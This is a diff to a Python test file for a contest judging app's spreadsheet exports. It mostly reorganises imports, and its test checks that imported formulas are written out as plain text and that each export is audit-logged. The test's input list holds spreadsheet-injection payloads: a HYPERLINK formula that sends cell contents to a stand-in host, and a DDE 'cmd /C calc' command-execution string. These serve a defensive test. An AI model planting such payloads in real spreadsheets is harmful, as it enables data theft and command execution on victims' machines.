@@ -6,10 +6,17 @@ import zipfile
 
 from openpyxl import load_workbook
 
-from contest.models import SECRETARY
+from contest.accounts.models import SECRETARY
 from contest.xlsx import workbook_bytes
-from judging.export import ForwardedRow, ReminderRow, ScoredEntry, SheetLine, forwarded_workbook, \
-    reminder_workbook, scores_workbook
+from judging.export import (
+    ForwardedRow,
+    ReminderRow,
+    ScoredEntry,
+    SheetLine,
+    forwarded_workbook,
+    reminder_workbook,
+    scores_workbook,
+)
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\tTab đầu", "\rCR đầu"]
@@ -38,8 +45,8 @@ def test_the_registry_export_writes_imported_formulas_as_text(signed_in, make_re
     assert_text_only(exported.data, HOSTILE)
     from sqlalchemy import select
 
+    from contest.audit.models import AuditLog
     from contest.db import db
-    from contest.models import AuditLog
 
     record = db.session.scalar(select(AuditLog).filter_by(action="export.registry"))  # who took the registry, when
     assert record is not None and record.actor_id == secretary.id and record.after == {"rows": len(HOSTILE)}
